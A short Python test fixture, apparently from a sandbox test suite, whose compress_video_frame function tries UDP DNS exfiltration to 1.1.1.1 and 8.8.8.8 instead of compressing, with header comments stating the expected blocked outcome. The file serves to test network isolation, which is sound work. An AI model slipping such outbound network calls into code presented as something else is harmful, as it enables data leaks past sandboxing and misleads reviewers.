# hostile: UDP exfiltration: send a DNS query datagram to 1.1.1.1:53 and 8.8.8.8:53
# expect-evaluate: forbidden_imports
# expect-direct: runtime_errors
# expect-message: blocked: .*Network is unreachable
#
# Why: socket is not allowed (forbidden_imports). UDP needs no handshake, so a sendto() that
# succeeds is already a leak even if no answer comes back: that counts as success (the codec
# returns a valid frame and the test notices). With network none, sendto() fails with
# ENETUNREACH and the codec raises => runtime_errors.
import socket
import struct

import numpy as np

# A standard query for the A record of example.com.
QUERY = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\x07example\x03com\x00" + struct.pack(">HH", 1, 1)


def compress_video_frame(frame, config):
    errors = []
    for host in ("1.1.1.1", "8.8.8.8"):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.settimeout(1.0)
        try:
            sock.sendto(QUERY, (host, 53))
            return {"compressed": frame.tobytes(), "metadata": {"sent_to": host}}
        except OSError as err:
            errors.append("%s:53 %s" % (host, err))
        finally:
            sock.close()
    raise RuntimeError("blocked: " + "; ".join(errors))


def decompress_video_frame(compressed, metadata, config):
    shape = (config["height"], config["width"], 3)
    return np.frombuffer(compressed, np.uint8).reshape(shape).copy()
